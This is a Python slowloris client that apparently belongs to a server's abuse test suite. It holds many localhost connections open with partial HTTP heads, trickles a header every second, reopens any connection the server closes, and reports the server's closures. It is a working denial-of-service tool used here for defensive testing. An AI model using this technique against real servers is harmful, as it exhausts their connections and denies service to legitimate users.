"""A slowloris client, run by test_abuse.py as a process of its own (so that
its loop does not share an interpreter lock with the measurements).

It opens COUNT connections to 127.0.0.1:PORT, sends each the start of a
request's head without a token and never its end, and holds them: every
second it adds one more header line to each, as the attack does to defeat
per-read timeouts, and while it is holding, it opens a new connection for
each one the server closes, so that COUNT stay open or being opened. It
prints `holding N` once all are open. On `stop` (a line on stdin) it stops
reopening and waits, up to CEILING seconds, for the server to close every
connection it still holds, then prints one JSON line:
{"opened", "closed_by_server", "still_open", "open_at_stop"}.

Usage: slowloris.py PORT COUNT CEILING
"""

from __future__ import annotations

import json
import os
import resource
import selectors
import socket
import sys
import time

HEAD = b"GET /v1/health HTTP/1.1\r\nHost: 127.0.0.1\r\nUser-Agent: slowloris\r\n"
# Reopening is bounded only so that the attack does not spin a core of a
# shared test machine; each reopen still takes a place at the server.
REOPEN_PER_SECOND = 200


def main() -> None:
    port, count, ceiling = int(sys.argv[1]), int(sys.argv[2]), float(sys.argv[3])
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    wanted = count + 64
    if soft < wanted:
        resource.setrlimit(resource.RLIMIT_NOFILE, (min(wanted, hard), hard))

    selector = selectors.DefaultSelector()
    stats = {"opened": 0, "closed_by_server": 0}

    def open_one() -> None:
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.settimeout(30)
        s.connect(("127.0.0.1", port))
        try:
            s.sendall(HEAD)
        except OSError:
            pass  # already closed for a newer one: seen as closed below
        s.setblocking(False)
        selector.register(s, selectors.EVENT_READ)
        stats["opened"] += 1

    def close_seen(s: socket.socket) -> None:
        selector.unregister(s)
        s.close()
        stats["closed_by_server"] += 1

    def poll(timeout: float) -> int:
        """Closes what the server closed; returns how many."""
        closed = 0
        for key, _ in selector.select(timeout):
            s = key.fileobj
            try:
                data = s.recv(4096)
            except (BlockingIOError, InterruptedError):
                continue
            except OSError:
                data = b""
            if not data:
                close_seen(s)
                closed += 1
        return closed

    for _ in range(count):
        open_one()
    print(f"holding {count}", flush=True)

    stdin = sys.stdin.fileno()
    os.set_blocking(stdin, False)
    selector.register(stdin, selectors.EVENT_READ, data="stdin")
    holding = True
    to_reopen = 0
    last_dribble = time.monotonic()
    budget, budget_at = REOPEN_PER_SECOND, time.monotonic()
    while holding:
        for key, _ in selector.select(0.05):
            if key.data == "stdin":
                line = os.read(stdin, 1024)
                if not line or b"stop" in line:
                    holding = False
                continue
            s = key.fileobj
            try:
                data = s.recv(4096)
            except (BlockingIOError, InterruptedError):
                continue
            except OSError:
                data = b""
            if not data:
                close_seen(s)
                to_reopen += 1
        now = time.monotonic()
        if now - budget_at >= 1:
            budget, budget_at = REOPEN_PER_SECOND, now
        while holding and to_reopen and budget:
            open_one()
            to_reopen -= 1
            budget -= 1
        if now - last_dribble >= 1:
            last_dribble = now
            for key in list(selector.get_map().values()):
                if key.data == "stdin":
                    continue
                try:
                    key.fileobj.send(b"X-Trickle: 1\r\n")
                except OSError:
                    pass  # closed: poll sees it

    selector.unregister(stdin)
    open_at_stop = len(selector.get_map())
    deadline = time.monotonic() + ceiling
    while selector.get_map() and time.monotonic() < deadline:
        poll(0.2)
    print(
        json.dumps(
            {
                **stats,
                "still_open": len(selector.get_map()),
                "open_at_stop": open_at_stop,
            }
        ),
        flush=True,
    )


if __name__ == "__main__":
    main()
